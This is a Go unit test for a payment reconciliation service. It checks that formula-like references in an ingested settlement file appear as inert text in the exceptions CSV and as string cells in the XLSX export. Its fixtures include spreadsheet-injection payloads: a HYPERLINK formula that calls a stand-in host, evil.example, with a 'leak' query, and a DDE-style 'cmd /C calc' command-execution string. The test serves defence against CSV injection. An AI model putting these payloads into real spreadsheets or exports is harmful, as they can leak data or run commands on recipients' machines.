package recon

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"tatkal/booking/csvx"
)

// A settlement file whose references are formulas: the exceptions CSV
// carries them as text a spreadsheet will not run (an apostrophe in
// front), its amounts stay numbers, negative ones too; the workbook holds
// them as string cells, not formulas.
func TestFormulaReferencesStayText(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	const gw = "swiftpay"
	formulas := []string{
		`=HYPERLINK("http://evil.example/?leak","Refund")`, "=1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "\t=1+1",
	}
	file := swiftHead +
		"CAPTURE," + csvCell(formulas[0]) + "," + csvCell(formulas[1]) + ",,,UPI,12.50,0.00,0.00,12.50,04/06/2025 12:00:01,05/06/2025," + csvCell(formulas[2]) + "\n" +
		"REFUND,pay_x," + csvCell(formulas[5]) + "," + csvCell(formulas[3]) + "," + csvCell(formulas[4]) + ",UPI,-12.50,0.00,0.00,-12.50,04/06/2025 13:00:00,05/06/2025,SWP1\n"
	_, err := w.svc.Ingest(w.ctx, FileMeta{Source: SourceSettlement, Gateway: gw, BusinessDate: w.day, Name: "formulas.csv", By: "finance1"},
		strings.NewReader(file))
	w.must(err)
	run := w.run(gw)

	var cbuf bytes.Buffer
	w.must(w.svc.WriteCSV(w.ctx, run.ID, &cbuf))
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(cbuf.String(), csvx.BOM))).ReadAll()
	w.must(err)
	if len(recs) < 2 {
		t.Fatalf("no exceptions for a file of unknown payments: %q", recs)
	}
	amount, diff := slices.Index(recs[0], "Amount (₹)"), slices.Index(recs[0], "Difference (₹)")
	seen, negative := map[string]bool{}, false
	for _, r := range recs[1:] {
		for i, cell := range r {
			if i == amount || i == diff {
				v, err := strconv.ParseFloat(cell, 64)
				if err != nil {
					t.Errorf("%s %q is not a number", recs[0][i], cell)
				}
				negative = negative || v < 0
				continue
			}
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s %q starts like a formula: a spreadsheet runs it", recs[0][i], cell)
			}
			if f, ok := strings.CutPrefix(cell, "'"); ok && slices.Contains(formulas, f) {
				seen[f] = true
			}
		}
	}
	// The refs the exceptions carry: the capture's PSP ref and payout, the
	// refund's id.
	for _, f := range []string{formulas[0], formulas[2], formulas[3]} {
		if !seen[f] {
			t.Errorf("the CSV lacks %q as text; rows %q", f, recs[1:])
		}
	}
	if !negative {
		t.Errorf("no negative amount in the CSV, want the refund's -12.50 as a number: %q", recs[1:])
	}

	var xbuf bytes.Buffer
	w.must(w.svc.WriteXLSX(w.ctx, run.ID, &xbuf))
	f, err := excelize.OpenReader(&xbuf)
	w.must(err)
	defer f.Close()
	found := 0
	for _, name := range f.GetSheetList() {
		rows, err := f.GetRows(name)
		w.must(err)
		for r := range rows {
			for c, v := range rows[r] {
				if !slices.Contains(formulas, v) {
					continue
				}
				found++
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				typ, err := f.GetCellType(name, cell)
				w.must(err)
				fm, err := f.GetCellFormula(name, cell)
				w.must(err)
				if fm != "" || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
					t.Errorf("%s!%s %q: type %v, formula %q; want a string cell", name, cell, v, typ, fm)
				}
			}
		}
	}
	if found < 3 {
		t.Errorf("%d of the file's formulas found as cells in the workbook, want at least the exceptions' three", found)
	}
}

// csvCell quotes s as one CSV field.
func csvCell(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }
